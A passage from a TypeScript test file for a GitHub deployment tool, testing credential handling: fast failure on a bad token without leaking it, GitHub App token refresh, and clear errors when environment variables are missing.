    expect(run).toMatchObject({ conclusion: 'cancelled', cancelRequests: [{ force: false }] });
    expect(err.message).toContain(`its run ${run.id} ("No run name") was cancelled on GitHub`);
  });
});

describe('credentials', () => {
  it('a bad token is a non-retryable GitHubAuthError at once, with no secret in the message or logs', async () => {
    const w = await world(LAB, () => ({ kind: 'token', token: 'not-the-lab-token' }));
    try {
      const started = Date.now();
      const run = activityEnv();
      const err = await rejectionOf(run.run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
      expect(Date.now() - started).toBeLessThan(2_000);
      expect(err).toBeInstanceOf(ApplicationFailure);
      expect(err).toMatchObject({ type: 'GitHubAuthError', nonRetryable: true });
      expect(err.message).toMatch(/GitHub rejected the credentials \(401\) for GET .*\/branches\/green: check GITHUB_TOKEN/);
      expect(w.lab.github.counters.unauthorized).toBe(1);
      const everything = [err.message, err.stack, ...w.log.lines, ...run.logLines].join('\n');
      expect(everything).not.toContain('not-the-lab-token');
    } finally {
      await w.lab.close();
    }
  });

  it('authenticates as a GitHub App and mints a new installation token when the old one stops working', async () => {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const appAuth = {
      appId: 4242,
      installationId: 77,
      publicKeyPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
    };
    const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const w = await world({ ...LAB, tokens: [], appAuth }, () => ({
      kind: 'app',
      appId: 4242,
      installationId: 77,
      privateKey: pem,
    }));
    try {
      const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
      expect(sha).toBe(w.lab.github.branchHead('green'));
      expect(w.lab.github.requests.filter((r) => r.path.endsWith('/branches/green')).map((r) => r.authKind)).toEqual([
        'installation',
      ]);

      // Runs it dispatches are the app's bot's, and a retry adopts them (GET /app names it).
      const input = greenDeploy(w);
      const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
      expect(w.lab.github.run(ref.runId)!.actor).toBe('bluegreen[bot]');
      expect(await activityEnv({ attempt: 2 }).run(w.activities.dispatchWorkflow, input)).toEqual({ ...ref, reused: true });

      w.lab.github.expireInstallationTokens();
      const again = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'production' });
      expect(again).toBe(w.lab.github.branchHead('production'));
      expect(w.lab.github.installationTokensIssued).toBe(2);
      expect(w.log.lines.join('\n')).not.toMatch(/ghs_|BEGIN PRIVATE KEY/);
    } finally {
      await w.lab.close();
    }
  });

  it('reads credentials from the environment, naming what is missing', () => {
    expect(githubAuthFromEnv({ GITHUB_TOKEN: ' t0k ' })).toEqual({ kind: 'token', token: 't0k' });
    expect(() => githubAuthFromEnv({})).toThrow(/set GITHUB_TOKEN, or GITHUB_APP_ID/);
    expect(() => githubAuthFromEnv({ GITHUB_APP_ID: '1' })).toThrow(/GITHUB_APP_INSTALLATION_ID is missing/);
    expect(() => githubAuthFromEnv({ GITHUB_APP_ID: '1', GITHUB_APP_INSTALLATION_ID: '2' })).toThrow(
      /GITHUB_APP_PRIVATE_KEY \(or GITHUB_APP_PRIVATE_KEY_FILE\) is missing/,
    );
    expect(() =>
      githubAuthFromEnv({
        GITHUB_APP_ID: '1',
        GITHUB_APP_INSTALLATION_ID: '2',
        GITHUB_APP_PRIVATE_KEY_FILE: '/nonexistent/key.pem',
      }),
    ).toThrow(/GITHUB_APP_PRIVATE_KEY_FILE: cannot read \/nonexistent\/key.pem/);
    expect(
      githubAuthFromEnv({
        GITHUB_APP_ID: '1',
        GITHUB_APP_INSTALLATION_ID: '2',
        GITHUB_APP_PRIVATE_KEY: '-----BEGIN KEY-----\\nabc\\n-----END KEY-----',
      }),
    ).toEqual({ kind: 'app', appId: '1', installationId: '2', privateKey: '-----BEGIN KEY-----\nabc\n-----END KEY-----' });
  });
});
